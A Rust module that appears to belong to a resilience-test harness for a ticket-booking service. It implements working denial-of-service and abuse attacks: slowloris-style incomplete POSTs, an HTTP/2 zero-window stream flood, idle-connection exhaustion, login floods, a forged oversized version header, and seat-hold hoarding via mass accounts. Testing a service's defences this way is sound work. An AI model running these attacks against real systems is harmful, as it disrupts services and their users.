//! The attacks. Each starts, runs in the background, and stops when asked to.

use super::client::{PEOPLE, PLACES, Target, Victim, account, as_of, ask, connect, key, login, order, other};
use anyhow::Result;
use std::{
    io::{Read, Write},
    net::{IpAddr, SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::Duration,
};

/// Connections whose bodies never come, from each of the addresses that take part.
const SILENT: usize = 256;
const SILENT_ADDRESSES: u8 = 4;
/// Connections of HTTP/2 that take nothing, and requests of each.
const UNREAD_CONNECTIONS: usize = 6;
const UNREAD_STREAMS: u32 = 100;
/// Connections that say nothing, all from one address.
const IDLE: usize = 8_300;
/// Clients that claim to have seen what nobody has.
const SEERS: u8 = 32;
/// Accounts of the one address that wants all places, and places of each.
const ACCOUNTS: u32 = 30;
const EACH: u32 = 10;
/// How often connections that were closed are made again.
const AGAIN: Duration = Duration::from_millis(200);

pub struct Attack {
    pub name: &'static str,
    pub victim: Victim,
    pub begin: fn(&Target) -> Result<RunningAttack>,
}

pub static ATTACKS: [Attack; 7] = [
    Attack { name: "bodies", victim: Victim::Me, begin: bodies },
    Attack { name: "bodies-of-holds", victim: Victim::Hold, begin: bodies },
    Attack { name: "answers", victim: Victim::List, begin: answers },
    Attack { name: "connections", victim: Victim::Read, begin: connections },
    Attack { name: "logins", victim: Victim::Hold, begin: logins },
    Attack { name: "seen", victim: Victim::Mine, begin: seen },
    Attack { name: "places", victim: Victim::Read, begin: places },
];

/// A running attack.
pub struct RunningAttack {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
    /// What it got, and what it did not, and how that is called.
    got: Arc<AtomicU64>,
    refused: Arc<AtomicU64>,
    what: &'static str,
}

impl RunningAttack {
    fn new(what: &'static str) -> Self {
        Self { stop: Arc::default(), threads: Vec::new(), got: Arc::default(), refused: Arc::default(), what }
    }

    /// One more attacker, who does this again and again and says whether it got what it wanted.
    fn join(&mut self, mut attack: impl FnMut() -> Option<bool> + Send + 'static) {
        let (stop, got, refused) = (Arc::clone(&self.stop), Arc::clone(&self.got), Arc::clone(&self.refused));
        self.threads.push(std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                match attack() {
                    Some(true) => got.fetch_add(1, Ordering::Relaxed),
                    Some(false) => refused.fetch_add(1, Ordering::Relaxed),
                    None => return,
                };
            }
        }));
    }

    /// Ends it, and says how it went.
    pub fn end(self) -> String {
        self.stop.store(true, Ordering::Relaxed);
        for thread in self.threads {
            // A panic is printed, and ends that thread's attack.
            let _ = thread.join();
        }
        let (got, refused) = (self.got.load(Ordering::Relaxed), self.refused.load(Ordering::Relaxed));
        format!("{got} {}, {refused} refused or cut off", self.what)
    }
}

/// Keeps so many connections open on which this was sent, and makes those again that are closed.
fn keep(way: &mut RunningAttack, count: usize, from: IpAddr, to: SocketAddr, begin: Vec<u8>) {
    let mut open: Vec<TcpStream> = Vec::new();
    let refused = Arc::clone(&way.refused);
    way.join(move || {
        let before = open.len();
        open.retain_mut(|stream| {
            let mut heard = [0; 16 * 1024];
            loop {
                match stream.read(&mut heard) {
                    Ok(0) => return false,
                    Ok(_) => {}
                    Err(error) => return error.kind() == std::io::ErrorKind::WouldBlock,
                }
            }
        });
        refused.fetch_add((before - open.len()) as u64, Ordering::Relaxed);
        while open.len() < count {
            let Ok(mut stream) = connect(from, to) else { break };
            if stream.write_all(&begin).is_err() || stream.set_nonblocking(true).is_err() {
                break;
            }
            open.push(stream);
        }
        std::thread::sleep(AGAIN);
        Some(true)
    });
    way.what = "rounds";
}

fn bodies(target: &Target) -> Result<RunningAttack> {
    let mut way = RunningAttack::new("rounds");
    for address in 0..SILENT_ADDRESSES {
        let silent = |path: &str| {
            format!("POST {path} HTTP/1.1\r\nhost: a.example\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{{")
        };
        for path in ["/api/auth/login", "/api/bookings"] {
            keep(&mut way, SILENT / 2, other(0, 66 + address), target.address, silent(path).into_bytes());
        }
    }
    Ok(way)
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Many requests whose answers may not be sent: the window is zero, and stays so.
fn answers(target: &Target) -> Result<RunningAttack> {
    // HPACK: indexed :method GET and :scheme http, then literals that are not indexed.
    let literal = |index: u8, text: &str| [&[index, u8::try_from(text.len()).unwrap_or_default()][..], text.as_bytes()].concat();
    let head = [vec![0x82, 0x86], literal(0x04, "/api/events?limit=100"), literal(0x01, "a.example")].concat();
    let mut begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    begin.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]));
    for stream in 0..UNREAD_STREAMS {
        begin.extend(frame(1, 0x5, 2 * stream + 1, &head));
    }
    let mut way = RunningAttack::new("rounds");
    keep(&mut way, UNREAD_CONNECTIONS, other(0, 66), target.address, begin);
    Ok(way)
}

fn connections(target: &Target) -> Result<RunningAttack> {
    let mut way = RunningAttack::new("rounds");
    keep(&mut way, IDLE, other(0, 66), target.address, Vec::new());
    Ok(way)
}

fn logins(target: &Target) -> Result<RunningAttack> {
    let mut way = RunningAttack::new("logins");
    for (person, email) in (1..=PEOPLE).zip(&target.emails) {
        let (address, body) = (target.address, login(email));
        way.join(move || {
            let answer = ask(other(2, person), address, "POST", "/api/auth/login", "", &body);
            Some(matches!(answer, Ok((200, _))))
        });
    }
    Ok(way)
}

/// Reads with a `Marquee-Seen` that says more than there is: base64url of `[["i","EVENT",2^60]]`.
fn seen(target: &Target) -> Result<RunningAttack> {
    let token = base64url(format!("[[\"i\",\"{}\",1152921504606846976]]", target.event).as_bytes());
    let (path, line) = (format!("/api/events/{}", target.event), format!("marquee-seen: {token}\r\n"));
    let mut way = RunningAttack::new("reads");
    for client in 1..=SEERS {
        let (address, path, line) = (target.address, path.clone(), line.clone());
        way.join(move || Some(matches!(ask(other(3, client), address, "GET", &path, &line, ""), Ok((200, _)))));
    }
    Ok(way)
}

fn base64url(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let number = chunk.iter().enumerate().fold(0_u32, |all, (at, byte)| all | u32::from(*byte) << (16 - 8 * at));
        for at in 0..=chunk.len() {
            let digit = number >> (18 - 6 * at) & 0x3f;
            text.push(DIGITS.get(digit as usize).copied().map_or('A', char::from));
        }
    }
    text
}

/// One address, many fresh accounts, and a hold for each.
fn places(target: &Target) -> Result<RunningAttack> {
    let (address, event, ticket) = (target.address, target.small.clone(), target.small_ticket.clone());
    let mut way = RunningAttack::new("holds of 10 places");
    let got = Arc::clone(&way.got);
    let mut left = ACCOUNTS;
    way.join(move || {
        left = left.checked_sub(1)?;
        let held = account(other(0, 66), address, &format!("{}@example.com", key())).ok().and_then(|token| {
            ask(other(0, 66), address, "POST", "/api/bookings", &as_of(&token), &order(&event, &ticket, EACH)).ok()
        });
        debug_assert!(got.load(Ordering::Relaxed) * u64::from(EACH) <= u64::from(PLACES), "more than there are");
        Some(matches!(held, Some((201, _))))
    });
    Ok(way)
}
